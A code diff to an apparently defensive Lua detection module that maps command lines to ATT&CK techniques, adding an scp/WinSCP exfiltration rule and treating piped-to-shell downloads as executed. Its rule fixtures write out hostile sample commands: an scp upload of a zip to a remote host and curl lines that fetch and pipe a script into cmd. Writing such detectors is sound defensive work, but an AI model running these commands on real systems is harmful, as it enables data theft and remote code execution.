@@ -100,8 +100,11 @@ end
 
 local KEEPS = { ["-O"] = true, ["-OJ"] = true, ["-LO"] = true, ["--remote-name"] = true, ["-JO"] = true }
 
+local SHELLS = { cmd = true, powershell = true, pwsh = true, bash = true, python = true }
+
 -- Whether what comes is kept as a file, of whatever name, or run at once.
 local function is_kept(each)
+    if SHELLS[each.pipes_to] then return true end
     if each:has("--output", "--output-document", "--dir") or each.text:find "%s>%s*%S" then return true end
     for at = 2, #each.words do
         local word = each.words[at]
@@ -127,7 +130,20 @@ local function excuse(finding, case)
     return "medium"
 end
 
+-- "scp FILE user@host:PATH", and what WinSCP is told to put.
+local function copied_away(each)
+    if each.program == "winscp" then
+        return each.folded:find "%f[%w]put%f[%W]" and each.text:match "[%w]+://[%w.-]*@?[%w.-]+" or nil
+    end
+    local last = each.words[#each.words]
+    return #each.words > 2 and last:match "^[%w._-]+@[%w.-]+:" and last or nil
+end
+
 local ROWS = {
+    { id = "exfiltration.secure-copy", programs = { "scp", "pscp", "winscp" }, attack = "T1048", target = copied_away,
+      verb = "send-by-copy", name = "a tool for copies over SSH", role = "text", excuse = excuse,
+      match = [[scp C:\Users\Public\a.zip a@203.0.113.5:/tmp]],
+      no_match = [[scp a@203.0.113.5:/tmp/a.zip C:\Users\x]] },
     { id = "exfiltration.upload-tool", programs = { "curl", "wget" }, attack = "T1048", target = upload_target,
       verb = "upload-with-tool", role = "url", more = uploaded, excuse = excuse_upload,
       attacks = { "T1048", "T1567", "T1567.001", "T1567.002", "T1567.003", "T1567.004" }, technique = upload_technique,
@@ -156,7 +172,7 @@ local ROWS = {
     { id = "command-and-control.curl", programs = { "curl", "wget", "aria2c" }, attack = "T1105", target = fetched,
       verb = "download-with-tool", means = "tool", role = "url", excuse = excuse,
       match = [[curl -s http://203.0.113.5/a.exe -o C:\Users\x\AppData\Local\Temp\a.exe]],
-      other = [[cmd /c curl -sLO 203.0.113.5/a.bat]],
+      other = [[cmd /c curl -sSL 203.0.113.5/a.cmd | cmd]],
       no_match = "curl http://203.0.113.5/status" },
 }
 
